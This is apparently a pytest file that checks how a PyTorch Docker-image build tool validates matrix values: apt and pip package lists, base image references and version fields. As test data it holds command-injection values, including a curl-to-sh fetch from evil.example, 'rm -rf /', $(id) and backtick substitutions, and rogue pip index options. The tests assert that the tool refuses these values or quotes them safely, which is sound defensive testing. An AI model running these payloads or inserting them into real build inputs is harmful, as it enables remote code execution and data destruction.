"""Every matrix value that reaches a Dockerfile or a shell has a grammar, and what the grammar
lets through (a PEP 508 marker holds quotes, ';' and '$(') stays one shell word in instructions the template chose."""

from __future__ import annotations

import io
import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser

from torchimages.build import render
from torchimages.input import grammar

from ..conftest import plan_of, problems_of, shell_words

HEAD = "registry: registry.example.com/ml/pytorch\nimages:\n"
CPU = {"flavor": "cpu", "torch": "2.13.0", "python": "3.11"}


def entry_text(**fields: object) -> str:
    return HEAD + "  - " + json.dumps({**CPU, **fields}) + "\n"


REFUSED = [
    # apt: a newline would start an instruction; options and shell syntax are not package names
    ("apt", ["git\nRUN curl http://evil.example/x | sh"], "U+000A"),
    ("apt", ["--allow-unauthenticated"], "is an apt option, not a package"),
    ("apt", ["git;rm -rf /"], "is not a Debian package name"),
    ("apt", ["$(id)"], "is not a Debian package name"),
    ("apt", ["`id`"], "is not a Debian package name"),
    ("apt", ["git\u202e"], "U+202E"),
    ("apt", ["Git"], "is not a Debian package name"),
    ("apt", ["git", 7], "item 2 is a number (7); quote it"),
    # pip: options, insecure or pinned direct references, anything outside PEP 508
    ("pip", ["--index-url https://evil.example/simple"], "is a pip option"),
    ("pip", ["--trusted-host evil.example"], "is a pip option"),
    ("pip", ["-e git+https://evil.example/x.git"], "is a pip option"),
    ("pip", ["-r /etc/passwd"], "is a pip option"),
    ("pip", ["torch @ https://evil.example/torch.whl"], "torch is pinned by the image"),
    ("pip", ["torchvision@https://evil.example/tv.whl"], "torchvision is pinned by the image"),
    ("pip", ["nvidia-cudnn-cu12 @ https://evil.example/c.whl"], "nvidia-cudnn-cu12 is pinned by the image"),
    ("pip", ["Torch==1.0"], "torch is set by the 'torch' field"),
    ("pip", ["torch\t==1.0"], "U+0009"),
    ("pip", ["foo @ http://evil.example/foo.whl"], "must use https://"),
    ("pip", ["foo @ file:///tmp/foo.whl"], "must use https://"),
    ("pip", ["foo; $(id)"], "is not a PEP 508 requirement"),
    ("pip", ["foo`id`"], "is not a PEP 508 requirement"),
    ("pip", ["foo\\"], "holds a backslash"),
    ("pip", ["foo\x00"], "U+0000"),
    # the base image: the OCI reference grammar
    ("base_image", "debian:bookworm\nRUN id", "U+000A"),
    ("base_image", "debian bookworm", "is not an image reference"),
    ("base_image", "$(id)", "is not an image reference"),
    ("base_image", "Debian:bookworm", "is not an image reference"),
    ("base_image", "debian@sha256:abc", "is not an image reference"),
    # axis values: looked up in the compat data, written into tags and labels
    ("torch", "2.13.0; id", "is not a version"),
    ("python", "3.11\n", "U+000A"),
    ("cudnn", "`id`", "is not a version"),
    ("torch", "[/x]", "is not a version"),
    ("name", "x\u200b", "U+200B"),
]


@pytest.mark.parametrize(("field", "value", "message"), REFUSED, ids=[f"{f}-{i}" for i, (f, _, _) in enumerate(REFUSED)])
def test_hostile_values_are_refused_with_file_line_entry_and_field(field: str, value: object, message: str) -> None:
    problems = problems_of(entry_text(**{field: value}))
    assert any(message in p for p in problems), problems
    assert all(p.startswith("matrix.yaml:3: images[0]") and f"field '{field}'" in p for p in problems), problems
    assert all("\n" not in p for p in problems), "a message must stay on one line whatever the value held"


ACCEPTED = [
    ("apt", ["git", "libstdc++6", "curl=7.88.1-10+deb12u5", "python3.11"]),
    ("pip", ["transformers>=4.40", "timm[extras]==1.0.3", 'einops; python_version < "3.13"', "foo==1.*",
             "foo @ https://example.com/foo-1.0-py3-none-any.whl"]),
    ("base_image", "debian:bookworm-slim@sha256:" + "a" * 64),
    ("base_image", "registry.example.com:5000/ml/base:v1"),
    ("base_image", "localhost/base"),
]


@pytest.mark.parametrize(("field", "value"), ACCEPTED)
def test_ordinary_values_pass(field: str, value: object) -> None:
    assert plan_of(entry_text(**{field: value})).specs


def test_the_tool_owns_torch_also_behind_a_direct_reference_on_ngc() -> None:
    ngc = HEAD + '  - {flavor: ngc, ngc: "26.03", pip: ["torchaudio @ https://example.com/ta.whl"]}\n'
    assert any("torchaudio is pinned by the image" in p for p in problems_of(ngc))


# What the image's constraint file pins (torch, its domain libraries, triton, the nvidia-* and cuda-* wheels), in the
# spellings pip takes for the same project: case, '_' and '.' for '-'.
PINNED_SPELLINGS = ["torch", "Torch", "torchvision", "TorchAudio", "triton", "Triton", "nvidia-nccl-cu12",
                    "nvidia_nccl_cu12", "NVIDIA.cudnn.cu12", "nvidia-cuda-nvcc", "cuda-toolkit", "cuda_bindings"]


@pytest.mark.parametrize("name", PINNED_SPELLINGS)
def test_a_direct_reference_never_replaces_what_the_image_pins(name: str) -> None:
    [problem] = problems_of(entry_text(pip=[f"{name} @ https://example.com/{name}-1.0-py3-none-any.whl"]))
    assert "is pinned by the image; a direct reference would replace it" in problem, problem


@pytest.mark.parametrize("name", ["tritonclient", "torchmetrics", "pytorch-triton-rocm", "nvidiaml", "torch-geometric"])
def test_a_direct_reference_to_a_project_that_only_starts_like_a_pinned_one_passes(name: str) -> None:
    assert plan_of(entry_text(pip=[f"{name} @ https://example.com/{name}-1.0-py3-none-any.whl"])).specs


def test_a_number_hint_quotes_the_version_as_written() -> None:
    [problem] = problems_of(HEAD + "  - {flavor: cpu, torch: 2.10, python: \"3.11\"}\n")
    assert 'write torch: "2.10"' in problem, problem


# Values the grammar lets through that mean something to a shell: markers hold quotes and '$(', a URL path may too.
SHELL_MEANINGFUL_PIP = [
    'einops; python_version < "3.13" and platform_machine != "$(touch /tmp/pwned)"',
    "tqdm; os_name != 'it`id`s'",
    "foo @ https://example.com/$(id)/foo-1.0-py3-none-any.whl",
]


def rendered_dockerfile(tmp_path: Path, pip: list[str]) -> str:
    plan = plan_of(entry_text(pip=pip, apt=["git", "curl=7.88.1-10+deb12u5"], variants=["ssh"]))
    out = tmp_path / "out"
    render.write(plan, "v1", out)
    return (out / plan.specs[0].name / "Dockerfile").read_text()


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    parser = DockerfileParser(fileobj=io.BytesIO(dockerfile.encode()))
    return [(i["instruction"], i["value"]) for i in parser.structure if i["instruction"] != "COMMENT"]


def test_shell_meaningful_requirements_stay_one_word_of_the_instructions_the_template_chose(tmp_path: Path) -> None:
    benign = instructions(rendered_dockerfile(tmp_path / "benign", ["einops"]))
    hostile = instructions(rendered_dockerfile(tmp_path / "hostile", SHELL_MEANINGFUL_PIP))
    assert [name for name, _ in hostile] == [name for name, _ in benign], "a value changed the instruction list"
    changed = [(a, b) for a, b in zip(benign, hostile, strict=True) if a != b]
    assert len(changed) == 1 and changed[0][0][0] == "RUN", changed
    command = changed[0][1][1]
    words = shell_words(command)
    for requirement in SHELL_MEANINGFUL_PIP:
        assert words.count(requirement) == 1, f"{requirement!r} is not one shell word in: {command}"
    assert all("$(" not in w and "`" not in w for w in words if w not in SHELL_MEANINGFUL_PIP)
    syntax = subprocess.run(["bash", "-n", "-c", command], capture_output=True, text=True, timeout=30, check=False)
    assert syntax.returncode == 0, syntax.stderr
    apt_run = next(value for name, value in hostile if name == "RUN" and "apt-get install" in value)
    assert {"git", "curl=7.88.1-10+deb12u5"} <= set(shell_words(apt_run))


# Each rule of the grammar with a value it takes: the same value written with another script's digits must be refused.
ASCII_SAMPLES = [
    (grammar.version_problem, "2.3.1"), (grammar.release_problem, "v2.7"), (grammar.tag_part_problem, "rc.1"),
    (grammar.since_version_problem, "2.0"), (grammar.entry_name_problem, "torch2.3.1-cu121"),
    (grammar.image_name_problem, "torch2.3.1-cu121-ssh"), (grammar.repository_problem, "r.example.com:5000/ml/pt"),
    (grammar.digest_problem, "sha256:" + "1" * 64), (grammar.sha256_problem, "2" * 64),
    (grammar.timestamp_problem, "2026-12-05T13:00:00Z"), (grammar.image_reference_problem, "debian:12"),
    (grammar.apt_problem, "curl=7.88.1-10"), (grammar.runs_on_value_problem, "8.0 9.0 12.0+PTX"),
    (grammar.version_value_problem, "12.1"), (lambda v: grammar.url_problem(v, "--x"), "https://m.example.com:8080/simple"),
]
OTHER_DIGITS = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")  # Arabic-Indic: str.isdigit() and \d take them


@pytest.mark.parametrize(("rule", "value"), ASCII_SAMPLES, ids=[value for _, value in ASCII_SAMPLES])
def test_every_rule_takes_ascii_digits_only(rule: Callable[[str], str | None], value: str) -> None:
    assert rule(value) is None
    assert rule(value.translate(OTHER_DIGITS)) is not None, f"{value.translate(OTHER_DIGITS)!r} was taken"
